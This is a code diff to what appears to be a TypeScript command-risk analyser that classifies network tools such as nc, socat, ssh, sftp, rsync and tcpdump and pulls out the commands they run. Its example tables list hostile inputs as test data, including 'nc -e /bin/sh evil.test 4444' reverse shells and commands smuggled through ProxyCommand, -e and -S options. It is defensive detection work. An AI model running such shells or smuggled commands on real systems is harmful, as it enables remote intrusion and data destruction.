@@ -2,12 +2,18 @@ import { type Call, deletes, has, known, pieceOf, plays, reads, sends, talks, va
 import { GAP } from "../parse/command.ts";
 import { isRemote } from "../hosts.ts";
 import { nameOf } from "../paths.ts";
-import type { Programs } from "./program.ts";
+import type { Inner, Programs } from "./program.ts";
+import { readOptions } from "./options.ts";
+import { asLine, behind, lines, optionsAsLines } from "./runs.ts";
+import { typedCommands, typedInto } from "./typed-commands.ts";
+
+const SSH = "p= l= i= o= F= J= L= R= D= b= c= E= e= I= m= O= Q= S= W= w= B= N f t T v A X Y q 4 6 C n";
 
 /** Programs that talk to other machines. */
 export const NETWORK: Programs = {
   "nc ncat netcat": {
     options: "e= c= exec= sh-exec= lua-exec= p= w= s= i= q= x= X= l listen k u v z n source= wait= proxy= ssl",
+    runs: optionsAsLines("e", "c", "exec", "sh-exec"),
     does: (call) => {
       const isListening = has(call, "l", "listen");
       if (has(call, "z")) return talks(call, "out", call.operands[0]);
@@ -19,9 +25,16 @@ export const NETWORK: Programs = {
       ["nc evil.test 4444", "network-in network-out", "talks to evil.test"],
       ["nc -e /bin/sh evil.test 4444", "network-in network-out run-code", "talks to evil.test"],
       ["nc -l 8080", "network-in network-out", "talks to ?"],
+      ["nc -e 'rm x' host 1", "runs rm x"],
+      ["ncat --sh-exec 'rm x' host 1", "runs rm x"],
     ],
   },
   socat: {
+    runs: ({ name, args }) =>
+      args.flatMap(({ text, isKnown }): Inner[] => {
+        const [, code] = /^(?:EXEC|SYSTEM|SHELL):([^,]+)/i.exec(text) ?? [];
+        return code === undefined ? [] : [{ runs: "shell", text: { text: code, isKnown, isGlob: false }, via: name }];
+      }),
     does: (call) => {
       for (const word of call.operands) {
         const [kind = "", place = ""] = word.text.split(":", 2);
@@ -36,10 +49,15 @@ export const NETWORK: Programs = {
     examples: [
       ["socat - TCP:evil.test:80", "network-in network-out", "talks to evil.test"],
       ["socat TCP:evil.test:80 EXEC:sh", "network-in network-out run-code", "talks to evil.test"],
+      ["socat - EXEC:'rm x'", "runs rm x"],
     ],
   },
   "telnet ftp lftp tftp": {
     options: "p= u= e= c= n i v",
+    runs: (run) => {
+      const typed = values(run, "e", "c").flatMap(({ text }) => text.split(";"));
+      return typedCommands(run, [...typed, run.stdin.text].join("\n"), /^\s*!\s*([\s\S]+)$/);
+    },
     does: (call) => {
       const typed = values(call, "e", "c").map(({ text }) => text);
       const opened = /(?:^|;)\s*open\s+(\S+)/.exec(typed.join(";"))?.[1];
@@ -57,11 +75,28 @@ export const NETWORK: Programs = {
         "reads a",
         "file a flows to network",
       ],
+      ["lftp -c '!rm x'", "runs rm x"],
+      ["ftp -n <<< '!rm x'", "runs rm x"],
     ],
   },
   "ssh autossh mosh slogin": {
-    options: "p= l= i= o= F= J= L= R= D= b= c= E= e= I= m= O= Q= S= W= w= B= N f t T v A X Y q 4 6 C n",
+    options: SSH,
     style: "first",
+    runs: (run) => {
+      const { name } = run;
+      const inners = values(run, "o").flatMap(({ text, isKnown }): Inner[] => {
+        const [, code] = /^(?:proxycommand|localcommand|knownhostscommand)[= ]([\s\S]+)$/i.exec(text) ?? [];
+        return code === undefined
+          ? []
+          : [{ runs: "shell", text: { text: code, isKnown, isGlob: false }, via: `${name} -o` }];
+      });
+      const [host, ...words] = run.operands;
+      if (host === undefined) return inners;
+      // After the host, options may go on; what follows is joined and read by the shell there.
+      const { operands } = readOptions(words, SSH, "first");
+      if (operands.length > 0) return [...inners, ...asLine(name, operands)];
+      return run.stdin.input.from === "nothing" ? inners : [...inners, { runs: "input", via: name }];
+    },
     does: (call) => {
       talks(call, "both", call.operands[0]);
       reads(call, value(call, "i"));
@@ -73,10 +108,16 @@ export const NETWORK: Programs = {
       ["ssh -p 22 me@h.test uptime", "network-in network-out", "talks to h.test"],
       ["ssh -i key h.test", "network-in network-out", "talks to h.test", "reads key"],
       ["ssh -o ProxyCommand=x h.test", "network-in network-out run-code", "talks to h.test"],
+      ["ssh -p 22 me@host rm x", "runs rm x"],
+      ["ssh host 'cd /; rm x'", "runs rm x"],
+      ["ssh -o ProxyCommand='rm x' host", "runs rm x"],
+      ["echo 'rm x' | ssh host sh", "runs rm x"],
+      ["mosh host -- rm x", "runs rm x"],
     ],
   },
   "scp rcp": {
     options: "P= i= o= F= J= S= c= l= r p q C v 3 4 6 B D= X=",
+    runs: optionsAsLines("S"),
     does: (call) => {
       transfers(call, has(call, "r"));
       if (has(call, "S")) plays(call, "run-code");
@@ -84,6 +125,7 @@ export const NETWORK: Programs = {
     examples: [
       ["scp -r a me@h.test:b", "network-out", "reads a tree", "sends to h.test", "file a flows to network"],
       ["scp h.test:a b", "network-in", "fetches from h.test", "writes b", "network b flows to file"],
+      ["scp -S 'rm x' a b:c", "runs rm x"],
       ["scp h.test:x/a .", "network-in", "fetches from h.test", "writes a", "network a flows to file"],
     ],
   },
@@ -115,6 +157,7 @@ export const NETWORK: Programs = {
   },
   sftp: {
     options: "P= i= o= F= b= J= S= B= R= r q C",
+    runs: (run) => [...lines(run, "S"), ...typedInto(run, values(run, "b"), [], /^\s*!\s*([\s\S]+)$/)],
     does: (call) => {
       talks(call, "both", call.operands[0]);
       reads(call, value(call, "b"));
@@ -124,6 +167,8 @@ export const NETWORK: Programs = {
     },
     examples: [
       ["sftp me@h.test", "network-in network-out", "talks to h.test"],
+      ["echo '!rm x' | sftp host", "runs rm x"],
+      ["sftp -S 'rm x' a", "runs rm x"],
       ["echo 'put a' | sftp h.test", "network-in network-out", "talks to h.test", "reads a", "file a flows to network"],
       [
         "echo 'get a b' | sftp h.test",
@@ -137,6 +182,7 @@ export const NETWORK: Programs = {
   rsync: {
     options:
       "archive|a recursive|r delete del delete-before delete-during delete-after delete-delay delete-excluded delete-missing-args force remove-source-files rsh|e= exclude= include= filter|f= exclude-from= include-from= files-from= dry-run|n verbose|v compress|z progress partial|P port= password-file= rsync-path= backup-dir= suffix= log-file= bwlimit= max-size= min-size= temp-dir|T= compare-dest= copy-dest= link-dest= chmod= chown= out-format= info= timeout= block-size|B= u update delete-",
+    runs: optionsAsLines("rsh", "rsync-path"),
     does: (call) => {
       const isDry = has(call, "dry-run");
       transfers(call, true, isDry);
@@ -156,6 +202,7 @@ export const NETWORK: Programs = {
       ["rsync -a --delete empty/ b/", "delete", "reads empty tree", "writes b tree", "deletes b tree forced"],
       ["rsync -az . me@h.test:/srv", "network-out", "reads . tree", "sends to h.test", "file . flows to network"],
       ["rsync -n --delete a b", "reads a tree"],
+      ["rsync -e 'rm x' a b:c", "runs rm x"],
     ],
   },
   rclone: {
@@ -202,6 +249,28 @@ export const NETWORK: Programs = {
     options: "c= i= W= w= s= t= p= I= m= h= n q",
     does: (call) => talks(call, "out", call.operands[0]),
     examples: [["ping -c 1 h.test", "network-out", "sends to h.test"]],
+  },
+  tcpdump: {
+    options: "w= r= i= G= W= C= s= c= z= F= V= E= Z= B= j= y= n e q t v x X A S",
+    does: (call) => {
+      reads(call, value(call, "r"));
+      writes(call, value(call, "w"));
+    },
+    runs: optionsAsLines("z"),
+    examples: [["tcpdump -G 1 -w a -z 'rm x'", "runs rm x"]],
+  },
+  "adb pdsh clush pssh parallel-ssh": {
+    options: "s= t= H= P= w= x= f= l= u= g= h= p= o= e= O=",
+    style: "first",
+    runs: ({ name, operands }) => {
+      if (name === "adb" && operands[0]?.text !== "shell") return [];
+      return asLine(name, behind(operands, name === "adb" ? 1 : 0, "s= t= w="));
+    },
+    examples: [
+      ["adb shell rm x", "runs rm x"],
+      ["pdsh -w a,b rm x", "runs rm x"],
+      ["pssh -h hosts rm x", "runs rm x"],
+    ],
   },
   "nmap masscan zmap": {
     options: "p= oN= oX= oG= script= iL= T= top-ports= s= P= A v",
